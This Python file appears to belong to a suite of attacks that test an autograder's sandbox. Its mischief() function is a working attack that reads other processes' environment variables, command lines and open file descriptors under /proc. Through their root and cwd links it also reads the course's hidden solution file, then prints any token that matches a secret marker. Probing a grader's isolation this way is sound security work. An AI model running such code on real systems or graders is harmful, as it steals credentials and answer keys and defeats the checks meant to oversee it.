"""What other processes say of themselves.

On most systems `/proc` shows of every process how it was called, what was in its environment, which files it has open and
where it works: the passwords of a grader are often in one of these. The attack looks at itself, at its parent and at the
processes that it knows of, follows their roots and working folders into the course, and reads what they have open.
"""
# seen: nothing is said
# layer: walls

# %% attack
import os

FOUND = []


def read(path, most=200_000):
    try:
        if not os.path.isfile(path):  # a pipe would be waited for
            return ""
        with open(path, "rb") as file:
            return file.read(most).decode(errors="replace")
    except OSError:
        return ""


def mischief():
    if FOUND:
        return
    FOUND.append("")
    numbers = [name for name in os.listdir("/proc") if name.isdigit()] if os.getpid() == 1 else []
    for pid in ["self", str(os.getppid()), str(place["pid"]), str(place["victim"]), *numbers]:
        for name in ("environ", "cmdline", "comm", "mountinfo"):
            FOUND.append(read(f"/proc/{pid}/{name}"))
        for root in ("root", "cwd"):
            FOUND.append(read(f"/proc/{pid}/{root}{place['course']}/solutions/{place['unit']}/laws.py"))
        try:
            FOUND.extend(read(f"/proc/{pid}/fd/{number}") for number in os.listdir(f"/proc/{pid}/fd"))
        except OSError as problem:
            print("nothing is said of", pid, "-", problem.strerror)
    for word in sorted({word for text in FOUND for word in text.replace("\0", " ").replace("=", " ").split()}):
        if word.startswith(place["mark"]):
            print(word)
